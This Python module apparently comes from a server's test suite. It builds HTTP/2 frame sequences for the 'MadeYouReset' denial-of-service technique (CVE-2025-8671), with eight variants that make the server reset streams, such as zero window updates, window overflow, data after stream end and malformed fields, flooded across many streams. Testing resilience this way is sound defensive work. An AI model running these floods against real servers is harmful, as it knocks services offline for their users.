"""MadeYouReset (CVE-2025-8671): mistakes by which the server itself resets each stream."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.attacks import frames
from tests.attacks.floods import per_stream
from tests.attacks.frames import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PRIORITY,
    frame,
    settings,
    window_update,
)
from tests.attacks.session import Outcome, Target, attack


def _made_you_reset(
    target: Target,
    seconds: float,
    frames_max: int,
    after: Callable[[int], bytes],
    count: int,
    *,
    ended: bool = False,
    block: bytes | None = None,
) -> Outcome:
    """A good beginning of a call (`ended`: all of it, with a reply that has no window), then `after`."""
    block = block or target.block(target.flow)
    body = frames.message(struct.pack(">QQ", 1, 1 << 10))

    def one(stream: int) -> bytes:
        start = frame(HEADERS, END_HEADERS, stream, block)
        if ended:
            start += frame(DATA, END_STREAM, stream, body)
        return start + after(stream)

    hello = frames.PREFACE + settings([(frames.INITIAL_WINDOW_SIZE, 0)])
    return attack(target, seconds, frames_max, per_stream(one, 1 + ended + count, group=100), hello=hello)


def reset_by_zero_window_update(target: Target, seconds: float, frames_max: int) -> Outcome:
    return _made_you_reset(target, seconds, frames_max, lambda stream: window_update(stream, 0), 1)


def reset_by_window_overflow(target: Target, seconds: float, frames_max: int) -> Outcome:
    twice = lambda stream: window_update(stream, frames.WINDOW_MAX) * 2  # noqa: E731
    return _made_you_reset(target, seconds, frames_max, twice, 2, ended=True)


def reset_by_data_after_end(target: Target, seconds: float, frames_max: int) -> Outcome:
    return _made_you_reset(
        target, seconds, frames_max, lambda stream: frame(DATA, END_STREAM, stream), 1, ended=True
    )


def reset_by_headers_after_end(target: Target, seconds: float, frames_max: int) -> Outcome:
    block = target.block(target.flow)
    more = lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block)  # noqa: E731
    return _made_you_reset(target, seconds, frames_max, more, 1, ended=True)


def reset_by_bad_trailers(target: Target, seconds: float, frames_max: int) -> Outcome:
    """Trailers without END_STREAM."""
    block = frames.unindexed("x-late", "1")
    return _made_you_reset(
        target, seconds, frames_max, lambda stream: frame(HEADERS, END_HEADERS, stream, block), 1
    )


def reset_by_content_length(target: Target, seconds: float, frames_max: int) -> Outcome:
    block = target.block(target.flow, ("content-length", "1"))
    wrong = lambda stream: frame(DATA, END_STREAM, stream, bytes(5))  # noqa: E731
    return _made_you_reset(target, seconds, frames_max, wrong, 1, block=block)


def reset_by_bad_field(target: Target, seconds: float, frames_max: int) -> Outcome:
    """A field name in upper case: the request is malformed."""
    block = target.block(target.flow, ("X-Upper", "1"))
    return _made_you_reset(target, seconds, frames_max, lambda stream: b"", 0, block=block)


def reset_by_priority_length(target: Target, seconds: float, frames_max: int) -> Outcome:
    return _made_you_reset(
        target, seconds, frames_max, lambda stream: frame(PRIORITY, 0, stream, bytes(4)), 1
    )
